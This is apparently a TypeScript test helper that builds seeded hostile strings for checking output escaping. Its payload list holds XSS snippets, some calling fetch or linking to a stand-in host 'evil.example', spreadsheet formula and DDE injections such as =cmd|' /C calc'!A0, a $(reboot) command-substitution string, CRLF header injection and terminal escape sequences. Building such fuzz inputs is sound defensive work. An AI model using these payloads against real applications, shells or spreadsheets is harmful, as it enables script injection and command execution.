import { seededChance } from '../builders.ts';

/** Texts that try to leave the place they are printed in, seeded: markup, formulas, terminal codes, line and bidi tricks. */
export function hostileTexts(count: number, seed: number): readonly string[] {
  const { fraction } = seededChance(seed);
  const pick = (below: number) => Math.floor(fraction() * below);
  return Array.from({ length: count }, (_, n) => {
    const one = attacks[n % attacks.length] ?? '';
    const parts = Array.from({ length: 1 + pick(4) }, () => attacks[pick(attacks.length)] ?? '');
    const letters = Array.from({ length: pick(12) }, () => String.fromCodePoint(points[pick(points.length)] ?? 60));
    return [one, ...parts, letters.join('')].join(glue[pick(glue.length)]);
  });
}

const glue = ['', ' ', '\n', 'x', '"', "'", '<'];

const attacks = [
  '<script>alert(1)</script>',
  '</script><script>fetch("//evil.example")</script>',
  '"><img src=x onerror=alert(1)>',
  "' onfocus='alert(1)' autofocus='",
  '</textarea><form action="//evil.example"><button>',
  '</title></head><body onload=alert(1)>',
  '<!--',
  '-->',
  ']]>',
  '<![CDATA[',
  '<a href="javascript:alert(1)">',
  'javascript:alert(1)',
  '<svg/onload=alert(1)>',
  '<style>*{display:none}</style>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '&lt;script&gt;',
  '&#60;b&#62;',
  '&#x0A;',
  '`',
  '```\n# heading\n```',
  '\n# heading\n',
  '\n---\n',
  '\n===\n',
  '| a | b |\n| --- | --- |',
  '[click](https://evil.example)',
  '![x](https://evil.example/x.png)',
  '[x]: https://evil.example',
  '<https://evil.example>',
  'https://evil.example/a_b*c*',
  'ftp://evil.example',
  'www.evil.example',
  'all@evil.example',
  'mailto:all@evil.example',
  'xmpp:all@evil.example',
  '**bold** _it_ ~~gone~~',
  '- [x] done',
  '> quoted',
  '1. one',
  '2) two',
  '    code',
  '\\',
  '\\|',
  '[^1]',
  '[^1]: note',
  ':smile:',
  '=HYPERLINK("https://evil.example","x")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '","x","',
  ';=1+1;',
  '\u001b[2J\u001b[31mHALTED\u001b[0m',
  '\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007',
  '\u001b]0;title\u0007',
  '\u009b2J',
  '\u0090q\u009c',
  '\b\b\b\b',
  '\rRESUMED',
  '\u0000',
  '\u007f',
  '\u0085',
  '\u2028',
  '\u2029',
  '\u202eEDECEDED',
  '\u2066\u2067\u2069',
  '\u200b\u200d\ufeff',
  '\ud800',
  '\udfff',
  '\u{e0041}',
  '{"level":"info","event":"stage.resumed"}',
  '\n{"level":"info","event":"stage.resumed"}\n',
  '{{7*7}}<%= 7*7 %>$'.concat('{7*7}'),
  '$(reboot)`reboot`',
  '%0d%0aSet-Cookie:%20a=b',
  '__proto__',
  'e\u0301'.repeat(40),
  'a'.repeat(300),
  '漢字 ﷺ 💥',
];

const points = [
  0x3c, 0x3e, 0x22, 0x27, 0x26, 0x60, 0x3d, 0x2f, 0x5c, 0x7c, 0x0a, 0x0d, 0x09, 0x1b, 0x00, 0x9b, 0x202e, 0x2028, 0x5b,
  0x5d, 0x28, 0x29, 0x2a, 0x5f, 0x23, 0x40, 0x2b, 0x2d, 0x61, 0x7a, 0x30, 0x20, 0xfffe, 0xfb02, 0x1f4a5,
];
